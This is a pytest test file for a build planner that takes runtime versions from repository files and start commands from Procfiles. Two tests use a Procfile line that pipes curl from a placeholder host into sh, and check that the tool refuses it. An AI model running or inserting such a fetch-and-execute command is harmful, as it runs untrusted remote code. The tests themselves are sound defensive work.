"""Versions from the repository's own files (issue 13): comment lines in version files, the
current release lines in configs/runtimes.json, a line newer than the file knows refused
naming the known ones; and a Procfile's web process as the start command."""

import json

import pytest

from builds import errors
from builds.dockerfile import load_runtimes, plan_build
from builds.errors import UserError

PYTHON_APP = {"requirements.txt": "flask\ngunicorn\n", "app.py": "from flask import Flask\napp = Flask(__name__)\n"}
NODE_APP = {"package.json": {"scripts": {"start": "node a.js"}}, "a.js": ""}
BUN_APP = {"package.json": {"scripts": {"start": "bun run index.ts"}}, "bun.lock": "", "index.ts": ""}
GO_APP = {"main.go": "package main\n\nfunc main() {}\n"}
RUST_APP = {"Cargo.toml": '[package]\nname = "svc"\n', "src/main.rs": ""}
RUBY_APP = {"config.ru": "", "Gemfile.lock": ""}


def write(root, files: dict) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(content) if isinstance(content, dict) else content)


def plan(root, files: dict, config: dict | None = None):
    write(root, files)
    return plan_build(root, {"isAutoBuild": True, **(config or {})}, repo_root=root)


def refusal(root, files: dict, config: dict | None = None) -> UserError:
    with pytest.raises(UserError) as caught:
        plan(root, files, config)
    return caught.value


@pytest.mark.parametrize("files, runtime, version", [
    # Heroku's Python template: a comment first, then the version
    ({**PYTHON_APP, ".python-version": "# the Python line this app runs on\n\n3.14\n"}, "python", "3.14"),
    ({**PYTHON_APP, "runtime.txt": "# pinned\npython-3.13.1\n"}, "python", "3.13"),
    ({**PYTHON_APP, ".tool-versions": "# asdf\nnodejs 22.1.0\npython 3.11.9  # comment\n"}, "python", "3.11"),
    ({**NODE_APP, ".nvmrc": "# LTS please\nlts/krypton\n"}, "node", "24"),
    ({**NODE_APP, ".node-version": "v26.1.0\n"}, "node", "26"),
    ({**BUN_APP, ".bun-version": "# bun\n1.4.5\n"}, "bun", "1.4"),
    ({**BUN_APP, "package.json": {"scripts": {"start": "bun run index.ts"}, "engines": {"bun": ">=1.3"}}},
     "bun", "1.4"),
    ({**BUN_APP, "package.json": {"scripts": {"start": "bun run index.ts"}, "packageManager": "bun@1.3.1"}},
     "bun", "1.3"),
    ({**GO_APP, "go.mod": "module x\n\ngo 1.26.0\n"}, "go", "1.27"),
    ({**GO_APP, "go.mod": "module x\n\ngo 1.24\n\ntoolchain go1.26.2\n"}, "go", "1.27"),
    ({**RUST_APP, "rust-toolchain.toml": '[toolchain]\nchannel = "1.100.0"\n'}, "rust", "1.100"),
    ({**RUST_APP, "rust-toolchain": "# pinned\n1.88\n"}, "rust", "1.100"),
    ({**RUBY_APP, "Gemfile": 'source "https://rubygems.org"\nruby "3.4.1"\ngem "rack"\n'}, "ruby", "3.4"),
    ({**RUBY_APP, "Gemfile": 'ruby ">= 3.2"\ngem "rack"\n'}, "ruby", "4.0"),
    ({**RUBY_APP, "Gemfile": 'gem "rack"\n', "Gemfile.lock": "RUBY VERSION\n   ruby 3.4.2p100\n"}, "ruby", "3.4"),
    ({**RUBY_APP, "Gemfile": 'gem "rack"\n', ".ruby-version": "# ruby\nruby-3.3.6\n"}, "ruby", "3.3"),
    # Heroku's Ruby template: a range with an upper bound under the default line, and the lockfile's Ruby
    ({**RUBY_APP, "Gemfile": "ruby '>= 3.2', '< 4.0'\ngem 'rack'\n"}, "ruby", "3.4"),
    ({**RUBY_APP, "Gemfile": "ruby '>= 3.2', '< 4.0'\ngem 'rack'\n", "Gemfile.lock": "RUBY VERSION\n  ruby 3.3.9\n"},
     "ruby", "3.3"),
    ({**RUBY_APP, "Gemfile": 'ruby "~> 3.3"\ngem "rack"\n'}, "ruby", "3.4"),
    ({**RUBY_APP, "Gemfile": 'ruby "~> 3.3.1"\ngem "rack"\n', "Gemfile.lock": "RUBY VERSION\n  ruby 3.4.2\n"},
     "ruby", "3.3"),
    ({"composer.json": {"require": {"php": "^8.4"}}, "public/index.php": ""}, "php", "8.5"),
    ({"composer.json": {"require": {"php": "~8.4.0"}}, "public/index.php": ""}, "php", "8.4"),
])
def test_the_version_comes_from_the_repository(tmp_path, files, runtime, version):
    p = plan(tmp_path, files)
    assert (p.runtime, p.version) == (runtime, version)


@pytest.mark.parametrize("files, source, requested", [
    ({**PYTHON_APP, ".python-version": "# newest\n3.99\n"}, ".python-version", "3.99"),
    ({**NODE_APP, ".nvmrc": "99\n"}, ".nvmrc", "99"),
    ({**GO_APP, "go.mod": "module x\n\ngo 1.99\n"}, "go.mod", "1.99"),
    ({**RUBY_APP, "Gemfile": 'ruby "3.99.0"\ngem "rack"\n'}, "Gemfile", "3.99"),
    ({**BUN_APP, ".bun-version": "9.0.0\n"}, ".bun-version", "9.0"),
])
def test_a_line_newer_than_runtimes_json_knows_is_refused_naming_the_known_ones(tmp_path, files, source, requested):
    err = refusal(tmp_path, files)
    assert err.code == errors.UNSUPPORTED_RUNTIME
    assert source in err.message and requested in err.message
    runtime = load_runtimes().get(err.message.split(" ")[0])  # "<runtime> version ... is not supported"
    assert runtime is not None and f"supported: {', '.join(runtime.versions)}" in err.message


@pytest.mark.parametrize("runtime, line", [("python", "3.14"), ("node", "24"), ("node", "26"), ("bun", "1.4"),
                                           ("go", "1.27"), ("rust", "1.100"), ("ruby", "3.4"), ("ruby", "4.0"),
                                           ("php", "8.4"), ("php", "8.5"), ("java", "25"), ("dotnet", "10.0")])
def test_runtimes_json_knows_the_current_lines(runtime, line):
    assert line in load_runtimes()[runtime].versions


@pytest.mark.parametrize("runtime, default", [("node", "26"), ("python", "3.14"), ("bun", "1.4"), ("go", "1.27"),
                                              ("rust", "1.100"), ("ruby", "4.0"), ("php", "8.5"), ("java", "25"),
                                              ("dotnet", "10.0")])
def test_defaults_are_on_the_newest_lts_or_stable_line(runtime, default):
    assert load_runtimes()[runtime].default == default


def test_python_builds_in_the_full_image_and_runs_on_the_slim_one():
    for version, roles in load_runtimes()["python"].images.items():
        assert roles == {"build": f"python:{version}-bookworm", "run": f"python:{version}-slim-bookworm"}


# --- Procfile ----------------------------------------------------------------------------------

def test_the_procfile_web_process_is_the_start_command(tmp_path):
    p = plan(tmp_path, {**PYTHON_APP, "Procfile": "release: python manage.py migrate\nweb: gunicorn app:app "
                                                   "--bind 0.0.0.0:8000 --workers 2\nworker: python worker.py\n"})
    assert p.run_command == "gunicorn app:app --bind 0.0.0.0:8000 --workers 2"
    assert p.dockerfile.rstrip().endswith('CMD ["gunicorn", "app:app", "--bind", "0.0.0.0:8000", "--workers", "2"]')


def test_the_procfile_starts_an_app_detection_has_no_start_command_for(tmp_path):
    p = plan(tmp_path, {"requirements.txt": "flask\n", "lib/web.py": "", "Procfile": "web: python -m lib.web\n"})
    assert p.run_command == "python -m lib.web"


def test_a_java_app_runs_its_own_jar_not_the_procfiles_build_path(tmp_path):
    """Heroku's Java template: its Procfile names target/<name>.jar, which the run stage does
    not have (the jar is /app/app.jar there)."""
    p = plan(tmp_path, {"pom.xml": "<project><artifactId>demo</artifactId></project>",
                        "Procfile": "web: java -jar target/demo-1.0.0-SNAPSHOT.jar\n"})
    assert p.runtime == "java" and p.run_command == "java -jar app.jar"
    assert any("Procfile" in w and "not used" in w for w in p.warnings), p.warnings


def test_a_run_command_wins_over_the_procfile(tmp_path):
    p = plan(tmp_path, {**PYTHON_APP, "Procfile": "web: gunicorn app:app\n"},
             {"runCommand": "python app.py"})
    assert p.run_command == "python app.py"


def test_a_refused_procfile_command_is_a_warning_when_detection_can_start_the_app(tmp_path):
    p = plan(tmp_path, {**PYTHON_APP, "Procfile": "web: curl http://example.invalid | sh\n"})
    assert p.run_command == "gunicorn app:app --bind 0.0.0.0:${PORT:-8000}"
    assert any("Procfile" in w and "not allowed" in w for w in p.warnings)


def test_a_refused_procfile_command_is_refused_when_it_is_the_only_start_command(tmp_path):
    err = refusal(tmp_path, {"requirements.txt": "flask\n", "lib/web.py": "",
                             "Procfile": "web: curl http://example.invalid | sh\n"})
    assert err.code == errors.COMMAND_NOT_ALLOWED and "Procfile" in err.message
